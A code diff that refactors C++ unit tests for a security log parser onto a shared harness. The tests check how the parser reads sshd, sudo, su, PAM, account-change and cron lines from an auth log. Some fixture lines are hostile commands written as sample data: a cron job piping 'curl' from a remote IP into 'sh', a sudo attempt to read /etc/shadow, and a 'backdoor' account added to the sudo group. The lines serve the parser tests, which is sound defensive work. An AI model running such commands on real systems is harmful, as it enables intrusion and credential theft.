@@ -2,201 +2,151 @@
 #include <gtest/gtest.h>
 
 #include "ingest/formats/registry.h"
+#include "support/line_harness.h"
 
 namespace shodo::ingest {
 namespace {
 
-// A syslog parser fed "Jan  2 03:04:05 web1 " + the rest.
-struct Auth {
-  Auth() {
-    parser = FormatRegistry::instance().find("syslog")->make();
-    std::string err;
-    zone = Zone::locate("UTC", err);
-    file.path = "/var/log/auth.log";
-    file.mtime_s = 1717200000;  // 2024-06-01
-    file.zone = zone.get();
-    ctx.file = &file;
-    ctx.arena = &arena;
-    ctx.zone.set_zone(zone.get());
-  }
-  // Parses "PROGRAM: MESSAGE" (or "PROGRAM[PID]: MESSAGE") as logged by web1.
-  const Event& parse(std::string_view tagged) {
-    line = "Jan  2 03:04:05 web1 ";
-    line += tagged;
-    ev.clear();
-    ev.raw = line;
-    ev.kind = LogKind::syslog;
-    EXPECT_EQ(parser->parse(line, ev, ctx), LineResult::event) << line;
-    return ev;
-  }
-  std::string extra(std::string_view name) const {
-    for (const auto& [k, v] : ev.extra)
-      if (k == name) return std::string(v);
-    return "<none>";
+using shodo::testing::ParserHarness;
+
+// A syslog parser fed "Jan  2 03:04:05 web1 " + "PROGRAM[PID]: MESSAGE".
+struct Auth : ParserHarness {
+  Auth() : ParserHarness("syslog", "UTC", "/var/log/auth.log", 1717200000) {
+    prefix = "Jan  2 03:04:05 web1 ";
   }
   // The message was not recognized: a plain syslog event.
   void expect_plain(std::string_view tagged) {
-    parse(tagged);
-    EXPECT_TRUE(ev.action.empty()) << tagged << " gave " << ev.action;
-    EXPECT_EQ(ev.kind, LogKind::syslog) << tagged;
-    EXPECT_TRUE(ev.user.empty()) << tagged;
+    check(tagged, {.kind = LogKind::syslog, .action = "", .user = ""});
   }
-
-  std::unique_ptr<LineParser> parser;
-  std::shared_ptr<const Zone> zone;
-  FileContext file;
-  Arena arena;
-  ParseContext ctx;
-  std::string line;
-  Event ev;
 };
 
 TEST(AuthSshd, AcceptedPassword) {
   Auth a;
-  const Event& ev =
-      a.parse("sshd[4242]: Accepted password for alice from 192.0.2.10 port 51234 ssh2");
-  EXPECT_EQ(ev.kind, LogKind::auth);
-  EXPECT_EQ(ev.action, "ssh-login");
-  EXPECT_EQ(ev.outcome, "success");
-  EXPECT_EQ(ev.user, "alice");
-  EXPECT_EQ(ev.client_ip, "192.0.2.10");
-  EXPECT_EQ(ev.client_port, 51234);
-  EXPECT_EQ(ev.process, "sshd");
-  EXPECT_EQ(ev.pid, 4242);
-  EXPECT_EQ(a.extra("ssh.method"), "password");
-  EXPECT_EQ(a.extra("ssh.key"), "<none>");
+  a.check("sshd[4242]: Accepted password for alice from 192.0.2.10 port 51234 ssh2",
+          {.kind = LogKind::auth,
+           .process = "sshd",
+           .pid = 4242,
+           .action = "ssh-login",
+           .outcome = "success",
+           .user = "alice",
+           .client_ip = "192.0.2.10",
+           .client_port = 51234,
+           .extra = {{"ssh.method", "password"}, {"ssh.key", "<absent>"}}});
 }
 
 TEST(AuthSshd, AcceptedPublickeyKeepsTheKey) {
   Auth a;
-  const Event& ev = a.parse(
+  a.check(
       "sshd[1]: Accepted publickey for deploy from 2001:db8::5 port 40000 ssh2: ED25519 "
-      "SHA256:AbCdEfGh0123456789");
-  EXPECT_EQ(ev.outcome, "success");
-  EXPECT_EQ(ev.user, "deploy");
-  EXPECT_EQ(ev.client_ip, "2001:db8::5");
-  EXPECT_EQ(a.extra("ssh.method"), "publickey");
-  EXPECT_EQ(a.extra("ssh.key"), "ED25519 SHA256:AbCdEfGh0123456789");
+      "SHA256:AbCdEfGh0123456789",
+      {.outcome = "success",
+       .user = "deploy",
+       .client_ip = "2001:db8::5",
+       .extra = {{"ssh.method", "publickey"}, {"ssh.key", "ED25519 SHA256:AbCdEfGh0123456789"}}});
 }
 
 TEST(AuthSshd, AcceptedKeyboardInteractive) {
   Auth a;
-  const Event& ev = a.parse(
-      "sshd[1]: Accepted keyboard-interactive/pam for bob from 198.51.100.4 port 2222 ssh2");
-  EXPECT_EQ(ev.action, "ssh-login");
-  EXPECT_EQ(ev.user, "bob");
-  EXPECT_EQ(a.extra("ssh.method"), "keyboard-interactive/pam");
+  a.check("sshd[1]: Accepted keyboard-interactive/pam for bob from 198.51.100.4 port 2222 ssh2",
+          {.action = "ssh-login",
+           .user = "bob",
+           .extra = {{"ssh.method", "keyboard-interactive/pam"}}});
 }
 
 TEST(AuthSshd, FailedPasswords) {
   Auth a;
-  const Event& ev =
-      a.parse("sshd[9]: Failed password for invalid user admin from 203.0.113.50 port 41000 ssh2");
-  EXPECT_EQ(ev.action, "ssh-login");
-  EXPECT_EQ(ev.outcome, "failure");
-  EXPECT_EQ(ev.user, "admin");
-  EXPECT_EQ(ev.client_ip, "203.0.113.50");
-  EXPECT_EQ(a.extra("ssh.invalid_user"), "true");
+  a.check("sshd[9]: Failed password for invalid user admin from 203.0.113.50 port 41000 ssh2",
+          {.action = "ssh-login",
+           .outcome = "failure",
+           .user = "admin",
+           .client_ip = "203.0.113.50",
+           .extra = {{"ssh.invalid_user", "true"}}});
 
-  a.parse("sshd[9]: Failed password for root from 203.0.113.50 port 41001 ssh2");
-  EXPECT_EQ(a.ev.user, "root");
-  EXPECT_EQ(a.extra("ssh.invalid_user"), "<none>");
+  a.check("sshd[9]: Failed password for root from 203.0.113.50 port 41001 ssh2",
+          {.user = "root", .extra = {{"ssh.invalid_user", "<absent>"}}});
 
   // The user name is what the client sent, spaces and all.
-  a.parse(
-      "sshd[9]: Failed none for invalid user a from 1.2.3.4 port 5 from 203.0.113.9 port 6 ssh2");
-  EXPECT_EQ(a.ev.user, "a from 1.2.3.4 port 5");
-  EXPECT_EQ(a.ev.client_ip, "203.0.113.9");
+  a.check(
+      "sshd[9]: Failed none for invalid user a from 1.2.3.4 port 5 from 203.0.113.9 port 6 ssh2",
+      {.user = "a from 1.2.3.4 port 5", .client_ip = "203.0.113.9"});
 }
 
 TEST(AuthSshd, FoldedRepeatsAreUnfolded) {
   Auth a;
-  const Event& ev = a.parse(
+  a.check(
       "sshd[9]: message repeated 3 times: [ Failed password for root from 203.0.113.50 port "
-      "41000 ssh2]");
-  EXPECT_EQ(ev.action, "ssh-login");
-  EXPECT_EQ(ev.outcome, "failure");
-  EXPECT_EQ(ev.client_port, 41000);
-  EXPECT_EQ(a.extra("syslog.repeated"), "3");
+      "41000 ssh2]",
+      {.action = "ssh-login",
+       .outcome = "failure",
+       .client_port = 41000,
+       .extra = {{"syslog.repeated", "3"}}});
 }
 
 TEST(AuthSshd, InvalidUser) {
   Auth a;
-  const Event& ev = a.parse("sshd[9]: Invalid user oracle from 203.0.113.51 port 50000");
-  EXPECT_EQ(ev.action, "ssh-invalid-user");
-  EXPECT_EQ(ev.outcome, "failure");
-  EXPECT_EQ(ev.user, "oracle");
-  EXPECT_EQ(ev.client_port, 50000);
-  a.parse("sshd[9]: Invalid user test from 203.0.113.51");  // before OpenSSH 7.5: no port
-  EXPECT_EQ(a.ev.action, "ssh-invalid-user");
-  EXPECT_EQ(a.ev.client_port, -1);
-  a.parse("sshd[9]: Invalid user  from 203.0.113.51 port 50001");  // an empty name
-  EXPECT_EQ(a.ev.action, "ssh-invalid-user");
-  EXPECT_TRUE(a.ev.user.empty());
+  a.check(
+      "sshd[9]: Invalid user oracle from 203.0.113.51 port 50000",
+      {.action = "ssh-invalid-user", .outcome = "failure", .user = "oracle", .client_port = 50000});
+  // Before OpenSSH 7.5: no port.
+  a.check("sshd[9]: Invalid user test from 203.0.113.51",
+          {.action = "ssh-invalid-user", .client_port = -1});
+  // An empty name.
+  a.check("sshd[9]: Invalid user  from 203.0.113.51 port 50001",
+          {.action = "ssh-invalid-user", .user = ""});
 }
 
 TEST(AuthSshd, Disconnects) {
   Auth a;
-  a.parse(
-      "sshd[9]: Connection closed by authenticating user alice 192.0.2.10 port 51234 [preauth]");
-  EXPECT_EQ(a.ev.action, "ssh-disconnect");
-  EXPECT_EQ(a.ev.user, "alice");
-  EXPECT_EQ(a.ev.client_ip, "192.0.2.10");
-  EXPECT_EQ(a.ev.client_port, 51234);
-  EXPECT_TRUE(a.ev.outcome.empty());
+  a.check("sshd[9]: Connection closed by authenticating user alice 192.0.2.10 port 51234 [preauth]",
+          {.action = "ssh-disconnect",
+           .outcome = "",
+           .user = "alice",
+           .client_ip = "192.0.2.10",
+           .client_port = 51234});
 
-  a.parse("sshd[9]: Connection closed by invalid user guest 203.0.113.7 port 1022 [preauth]");
-  EXPECT_EQ(a.ev.user, "guest");
-  EXPECT_EQ(a.extra("ssh.invalid_user"), "true");
+  a.check("sshd[9]: Connection closed by invalid user guest 203.0.113.7 port 1022 [preauth]",
+          {.user = "guest", .extra = {{"ssh.invalid_user", "true"}}});
 
-  a.parse("sshd[9]: Connection closed by 203.0.113.7 port 1023 [preauth]");
-  EXPECT_EQ(a.ev.action, "ssh-disconnect");
-  EXPECT_TRUE(a.ev.user.empty());
-  EXPECT_EQ(a.ev.client_ip, "203.0.113.7");
+  a.check("sshd[9]: Connection closed by 203.0.113.7 port 1023 [preauth]",
+          {.action = "ssh-disconnect", .user = "", .client_ip = "203.0.113.7"});
 
-  a.parse("sshd[9]: Disconnected from user alice 192.0.2.10 port 51234");
-  EXPECT_EQ(a.ev.action, "ssh-disconnect");
-  EXPECT_EQ(a.ev.user, "alice");
+  a.check("sshd[9]: Disconnected from user alice 192.0.2.10 port 51234",
+          {.action = "ssh-disconnect", .user = "alice"});
 
-  a.parse("sshd[9]: Received disconnect from 192.0.2.10 port 51234:11: disconnected by user");
-  EXPECT_EQ(a.ev.action, "ssh-disconnect");
-  EXPECT_EQ(a.ev.client_ip, "192.0.2.10");
-  EXPECT_EQ(a.ev.client_port, 51234);
+  a.check("sshd[9]: Received disconnect from 192.0.2.10 port 51234:11: disconnected by user",
+          {.action = "ssh-disconnect", .client_ip = "192.0.2.10", .client_port = 51234});
 
-  a.parse("sshd[9]: Received disconnect from 192.0.2.10: 11: Bye Bye");
-  EXPECT_EQ(a.ev.action, "ssh-disconnect");
-  EXPECT_EQ(a.ev.client_ip, "192.0.2.10");
+  a.check("sshd[9]: Received disconnect from 192.0.2.10: 11: Bye Bye",
+          {.action = "ssh-disconnect", .client_ip = "192.0.2.10"});
 }
 
 TEST(AuthSshd, MaximumAttempts) {
   Auth a;
-  a.parse(
+  a.check(
       "sshd[9]: error: maximum authentication attempts exceeded for invalid user pi from "
-      "203.0.113.8 port 3333 ssh2 [preauth]");
-  EXPECT_EQ(a.ev.action, "ssh-max-auth-attempts");
-  EXPECT_EQ(a.ev.outcome, "failure");
-  EXPECT_EQ(a.ev.user, "pi");
-  EXPECT_EQ(a.ev.client_ip, "203.0.113.8");
+      "203.0.113.8 port 3333 ssh2 [preauth]",
+      {.action = "ssh-max-auth-attempts",
+       .outcome = "failure",
+       .user = "pi",
+       .client_ip = "203.0.113.8"});
 }
 
 TEST(AuthSshd, PamAuthenticationFailure) {
   Auth a;
-  a.parse(
+  a.check(
       "sshd[9]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh "
-      "ruser= rhost=203.0.113.9  user=root");
-  EXPECT_EQ(a.ev.kind, LogKind::auth);
-  EXPECT_EQ(a.ev.action, "auth-failure");
-  EXPECT_EQ(a.ev.outcome, "failure");
-  EXPECT_EQ(a.ev.user, "root");
-  EXPECT_EQ(a.ev.client_ip, "203.0.113.9");
-  EXPECT_EQ(a.extra("pam.service"), "sshd");
+      "ruser= rhost=203.0.113.9  user=root",
+      {.kind = LogKind::auth,
+       .action = "auth-failure",
+       .outcome = "failure",
+       .user = "root",
+       .client_ip = "203.0.113.9",
+       .extra = {{"pam.service", "sshd"}}});
 
-  a.parse(
+  a.check(
       "sshd[9]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh "
-      "ruser= rhost=scanner.example.com");
-  EXPECT_TRUE(a.ev.user.empty());
-  EXPECT_TRUE(a.ev.client_ip.empty());
-  EXPECT_EQ(a.extra("pam.rhost"), "scanner.example.com");
+      "ruser= rhost=scanner.example.com",
+      {.user = "", .client_ip = "", .extra = {{"pam.rhost", "scanner.example.com"}}});
 }
 
 TEST(AuthSshd, NearMissesStayPlain) {
@@ -210,154 +160,125 @@ TEST(AuthSshd, NearMissesStayPlain) {
   // The same words from another program mean nothing.
   a.expect_plain("myapp[9]: Accepted password for alice from 192.0.2.10 port 51234 ssh2");
   // OpenSSH 9.8 logs from sshd-session.
-  a.parse("sshd-session[9]: Accepted password for alice from 192.0.2.10 port 51234 ssh2");
-  EXPECT_EQ(a.ev.action, "ssh-login");
+  a.check("sshd-session[9]: Accepted password for alice from 192.0.2.10 port 51234 ssh2",
+          {.action = "ssh-login"});
 }
 
 TEST(AuthSudo, CommandRun) {
   Auth a;
-  a.parse("sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash");
-  EXPECT_EQ(a.ev.kind, LogKind::auth);
-  EXPECT_EQ(a.ev.action, "sudo");
-  EXPECT_EQ(a.ev.outcome, "success");
-  EXPECT_EQ(a.ev.user, "alice");
-  EXPECT_EQ(a.ev.target_user, "root");
-  EXPECT_EQ(a.ev.command, "/bin/bash");
-  EXPECT_EQ(a.extra("sudo.tty"), "pts/0");
-  EXPECT_EQ(a.extra("sudo.pwd"), "/home/alice");
+  a.check("sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash",
+          {.kind = LogKind::auth,
+           .action = "sudo",
+           .outcome = "success",
+           .user = "alice",
+           .target_user = "root",
+           .command = "/bin/bash",
+           .extra = {{"sudo.tty", "pts/0"}, {"sudo.pwd", "/home/alice"}}});
 
-  a.parse(
+  a.check(
       "sudo: www-data : TTY=unknown ; PWD=/var/www ; USER=root ; ENV=A=b ; "
-      "COMMAND=/bin/sh -c id ; uname -a");
-  EXPECT_EQ(a.ev.user, "www-data");
-  EXPECT_EQ(a.ev.command, "/bin/sh -c id ; uname -a");
+      "COMMAND=/bin/sh -c id ; uname -a",
+      {.user = "www-data", .command = "/bin/sh -c id ; uname -a"});
 }
 
 TEST(AuthSudo, Refusals) {
   Auth a;
-  a.parse(
+  a.check(
       "sudo: alice : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/home/alice ; "
-      "USER=root ; COMMAND=/usr/bin/id");
-  EXPECT_EQ(a.ev.action, "sudo");
-  EXPECT_EQ(a.ev.outcome, "failure");
-  EXPECT_EQ(a.ev.command, "/usr/bin/id");
-  a.parse(
+      "USER=root ; COMMAND=/usr/bin/id",
+      {.action = "sudo", .outcome = "failure", .command = "/usr/bin/id"});
+  a.check(
       "sudo: mallory : user NOT in sudoers ; TTY=pts/2 ; PWD=/tmp ; USER=root ; "
-      "COMMAND=/bin/cat /etc/shadow");
-  EXPECT_EQ(a.ev.outcome, "failure");
-  EXPECT_EQ(a.ev.user, "mallory");
-  a.parse(
+      "COMMAND=/bin/cat /etc/shadow",
+      {.outcome = "failure", .user = "mallory"});
+  a.check(
       "sudo: pam_unix(sudo:auth): authentication failure; logname=alice uid=1000 euid=0 "
-      "tty=/dev/pts/1 ruser=alice rhost=  user=alice");
-  EXPECT_EQ(a.ev.action, "auth-failure");
-  EXPECT_EQ(a.ev.user, "alice");
-  EXPECT_TRUE(a.ev.target_user.empty());
-  EXPECT_EQ(a.extra("pam.service"), "sudo");
+      "tty=/dev/pts/1 ruser=alice rhost=  user=alice",
+      {.action = "auth-failure",
+       .user = "alice",
+       .target_user = "",
+       .extra = {{"pam.service", "sudo"}}});
 }
 
 TEST(AuthSudo, SessionsAndNearMisses) {
   Auth a;
-  a.parse("sudo: pam_unix(sudo:session): session opened for user root(uid=0) by alice(uid=1000)");
-  EXPECT_EQ(a.ev.action, "session-opened");
-  EXPECT_EQ(a.ev.user, "alice");
-  EXPECT_EQ(a.ev.target_user, "root");
-  a.parse("sudo: pam_unix(sudo:session): session closed for user root");
-  EXPECT_EQ(a.ev.action, "session-closed");
-  EXPECT_EQ(a.ev.user, "root");
+  a.check("sudo: pam_unix(sudo:session): session opened for user root(uid=0) by alice(uid=1000)",
+          {.action = "session-opened", .user = "alice", .target_user = "root"});
+  a.check("sudo: pam_unix(sudo:session): session closed for user root",
+          {.action = "session-closed", .user = "root"});
   a.expect_plain("sudo: unable to resolve host web1: Name or service not known");
   a.expect_plain("sudo: alice : no fields here");
 }
 
 TEST(AuthSu, SwitchesAndFailures) {
   Auth a;
-  a.parse("su[300]: (to root) alice on pts/0");
-  EXPECT_EQ(a.ev.action, "su");
-  EXPECT_EQ(a.ev.outcome, "success");
-  EXPECT_EQ(a.ev.user, "alice");
-  EXPECT_EQ(a.ev.target_user, "root");
-  EXPECT_EQ(a.extra("su.tty"), "pts/0");
-  a.parse("su[301]: FAILED su for root by alice");
-  EXPECT_EQ(a.ev.action, "su");
-  EXPECT_EQ(a.ev.outcome, "failure");
-  EXPECT_EQ(a.ev.user, "alice");
-  EXPECT_EQ(a.ev.target_user, "root");
-  a.parse("su[302]: Successful su for postgres by root");
-  EXPECT_EQ(a.ev.outcome, "success");
-  EXPECT_EQ(a.ev.target_user, "postgres");
-  a.parse("su[300]: pam_unix(su:session): session opened for user root(uid=0) by alice(uid=1000)");
-  EXPECT_EQ(a.ev.action, "session-opened");
-  EXPECT_EQ(a.ev.user, "alice");
-  EXPECT_EQ(a.ev.target_user, "root");
-  EXPECT_EQ(a.extra("pam.service"), "su");
-  a.parse(
+  a.check("su[300]: (to root) alice on pts/0", {.action = "su",
+                                                .outcome = "success",
+                                                .user = "alice",
+                                                .target_user = "root",
+                                                .extra = {{"su.tty", "pts/0"}}});
+  a.check("su[301]: FAILED su for root by alice",
+          {.action = "su", .outcome = "failure", .user = "alice", .target_user = "root"});
+  a.check("su[302]: Successful su for postgres by root",
+          {.outcome = "success", .target_user = "postgres"});
+  a.check("su[300]: pam_unix(su:session): session opened for user root(uid=0) by alice(uid=1000)",
+          {.action = "session-opened",
+           .user = "alice",
+           .target_user = "root",
+           .extra = {{"pam.service", "su"}}});
+  a.check(
       "su[301]: pam_unix(su:auth): authentication failure; logname=alice uid=1000 euid=0 "
-      "tty=/dev/pts/0 ruser=alice rhost=  user=root");
-  EXPECT_EQ(a.ev.action, "auth-failure");
-  EXPECT_EQ(a.ev.user, "alice");
-  EXPECT_EQ(a.ev.target_user, "root");
+      "tty=/dev/pts/0 ruser=alice rhost=  user=root",
+      {.action = "auth-failure", .user = "alice", .target_user = "root"});
   a.expect_plain("su[303]: something FAILED elsewhere by alice");
 }
 
 TEST(AuthPam, SessionsFromSshAndCron) {
   Auth a;
-  a.parse("sshd[9]: pam_unix(sshd:session): session opened for user alice(uid=1000) by (uid=0)");
-  EXPECT_EQ(a.ev.action, "session-opened");
-  EXPECT_EQ(a.ev.user, "alice");
-  EXPECT_TRUE(a.ev.target_user.empty());
-  a.parse(
-      "login[9]: pam_unix(login:session): session opened for user bob(uid=1001) by LOGIN(uid=0)");
-  EXPECT_EQ(a.ev.user, "bob");
-  EXPECT_TRUE(a.ev.target_user.empty());
-  a.parse("CRON[9]: pam_unix(cron:session): session closed for user root");
-  EXPECT_EQ(a.ev.action, "session-closed");
-  EXPECT_EQ(a.ev.kind, LogKind::auth);
-  EXPECT_EQ(a.extra("pam.service"), "cron");
+  a.check("sshd[9]: pam_unix(sshd:session): session opened for user alice(uid=1000) by (uid=0)",
+          {.action = "session-opened", .user = "alice", .target_user = ""});
+  a.check(
+      "login[9]: pam_unix(login:session): session opened for user bob(uid=1001) by LOGIN(uid=0)",
+      {.user = "bob", .target_user = ""});
+  a.check("CRON[9]: pam_unix(cron:session): session closed for user root",
+          {.kind = LogKind::auth, .action = "session-closed", .extra = {{"pam.service", "cron"}}});
 }
 
 TEST(AuthAccounts, UsersGroupsPasswords) {
   Auth a;
-  a.parse(
+  a.check(
       "useradd[500]: new user: name=backdoor, UID=1002, GID=1002, home=/home/backdoor, "
-      "shell=/bin/bash, from=/dev/pts/1");
-  EXPECT_EQ(a.ev.kind, LogKind::auth);
-  EXPECT_EQ(a.ev.action, "user-created");
-  EXPECT_EQ(a.ev.outcome, "success");
-  EXPECT_EQ(a.ev.target_user, "backdoor");
-  EXPECT_EQ(a.extra("account.uid"), "1002");
-  EXPECT_EQ(a.extra("account.gid"), "1002");
-  EXPECT_EQ(a.extra("account.home"), "/home/backdoor");
-  EXPECT_EQ(a.extra("account.shell"), "/bin/bash");
+      "shell=/bin/bash, from=/dev/pts/1",
+      {.kind = LogKind::auth,
+       .action = "user-created",
+       .outcome = "success",
+       .target_user = "backdoor",
+       .extra = {{"account.uid", "1002"},
+                 {"account.gid", "1002"},
+                 {"account.home", "/home/backdoor"},
+                 {"account.shell", "/bin/bash"}}});
 
-  a.parse("useradd[500]: new group: name=backdoor, GID=1002");
-  EXPECT_EQ(a.ev.action, "group-created");
-  EXPECT_EQ(a.extra("group.name"), "backdoor");
-  EXPECT_EQ(a.extra("group.id"), "1002");
-  a.parse("groupadd[501]: new group: name=deployers, GID=1003");
-  EXPECT_EQ(a.ev.action, "group-created");
+  a.check("useradd[500]: new group: name=backdoor, GID=1002",
+          {.action = "group-created", .extra = {{"group.name", "backdoor"}, {"group.id", "1002"}}});
+  a.check("groupadd[501]: new group: name=deployers, GID=1003", {.action = "group-created"});
 
-  a.parse("usermod[502]: add 'backdoor' to group 'sudo'");
-  EXPECT_EQ(a.ev.action, "user-added-to-group");
-  EXPECT_EQ(a.ev.target_user, "backdoor");
-  EXPECT_EQ(a.extra("group.name"), "sudo");
+  a.check("usermod[502]: add 'backdoor' to group 'sudo'", {.action = "user-added-to-group",
+                                                           .target_user = "backdoor",
+                                                           .extra = {{"group.name", "sudo"}}});
   a.expect_plain("usermod[502]: add 'backdoor' to shadow group 'sudo'");
 
-  a.parse("usermod[503]: change user 'backdoor' password");
-  EXPECT_EQ(a.ev.action, "password-changed");
-  EXPECT_EQ(a.ev.target_user, "backdoor");
-  a.parse("passwd[504]: pam_unix(passwd:chauthtok): password changed for alice");
-  EXPECT_EQ(a.ev.action, "password-changed");
-  EXPECT_EQ(a.ev.target_user, "alice");
-  EXPECT_EQ(a.extra("pam.service"), "passwd");
-  a.parse("chpasswd[505]: pam_unix(chpasswd:chauthtok): password changed for bob");
-  EXPECT_EQ(a.ev.target_user, "bob");
-  a.parse("passwd[506]: password for 'carol' changed by 'root'");
-  EXPECT_EQ(a.ev.action, "password-changed");
-  EXPECT_EQ(a.ev.user, "root");
-  EXPECT_EQ(a.ev.target_user, "carol");
+  a.check("usermod[503]: change user 'backdoor' password",
+          {.action = "password-changed", .target_user = "backdoor"});
+  a.check(
+      "passwd[504]: pam_unix(passwd:chauthtok): password changed for alice",
+      {.action = "password-changed", .target_user = "alice", .extra = {{"pam.service", "passwd"}}});
+  a.check("chpasswd[505]: pam_unix(chpasswd:chauthtok): password changed for bob",
+          {.target_user = "bob"});
+  a.check("passwd[506]: password for 'carol' changed by 'root'",
+          {.action = "password-changed", .user = "root", .target_user = "carol"});
 
-  a.parse("userdel[507]: delete user 'backdoor'");
-  EXPECT_EQ(a.ev.action, "user-deleted");
-  EXPECT_EQ(a.ev.target_user, "backdoor");
+  a.check("userdel[507]: delete user 'backdoor'",
+          {.action = "user-deleted", .target_user = "backdoor"});
 
   a.expect_plain("useradd[500]: new user: UID=1002, GID=1002");
   a.expect_plain("userdel[507]: delete user backdoor");
@@ -366,25 +287,22 @@ TEST(AuthAccounts, UsersGroupsPasswords) {
 
 TEST(AuthLogind, Sessions) {
   Auth a;
-  a.parse("systemd-logind[600]: New session 42 of user alice.");
-  EXPECT_EQ(a.ev.action, "session-opened");
-  EXPECT_EQ(a.ev.user, "alice");
-  EXPECT_EQ(a.extra("session.id"), "42");
-  a.parse("systemd-logind[600]: Removed session 42.");
-  EXPECT_EQ(a.ev.action, "session-closed");
-  EXPECT_EQ(a.extra("session.id"), "42");
+  a.check("systemd-logind[600]: New session 42 of user alice.",
+          {.action = "session-opened", .user = "alice", .extra = {{"session.id", "42"}}});
+  a.check("systemd-logind[600]: Removed session 42.",
+          {.action = "session-closed", .extra = {{"session.id", "42"}}});
   a.expect_plain("systemd-logind[600]: Session 42 logged out. Waiting for processes to exit.");
 }
 
 TEST(AuthCron, Commands) {
   Auth a;
-  a.parse("CRON[700]: (www-data) CMD (cd /var/www && php artisan schedule:run >> /dev/null 2>&1)");
-  EXPECT_EQ(a.ev.kind, LogKind::syslog);
-  EXPECT_EQ(a.ev.action, "cron-command");
-  EXPECT_EQ(a.ev.user, "www-data");
-  EXPECT_EQ(a.ev.command, "cd /var/www && php artisan schedule:run >> /dev/null 2>&1");
-  a.parse("crond[701]: (root) CMD (curl -s http://203.0.113.66/x.sh | sh)");
-  EXPECT_EQ(a.ev.command, "curl -s http://203.0.113.66/x.sh | sh");
+  a.check("CRON[700]: (www-data) CMD (cd /var/www && php artisan schedule:run >> /dev/null 2>&1)",
+          {.kind = LogKind::syslog,
+           .action = "cron-command",
+           .user = "www-data",
+           .command = "cd /var/www && php artisan schedule:run >> /dev/null 2>&1"});
+  a.check("crond[701]: (root) CMD (curl -s http://203.0.113.66/x.sh | sh)",
+          {.command = "curl -s http://203.0.113.66/x.sh | sh"});
   a.expect_plain("CRON[702]: (root) RELOAD (crontabs/root)");
   a.expect_plain("CRON[703]: (CRON) info (No MTA installed, discarding output)");
 }
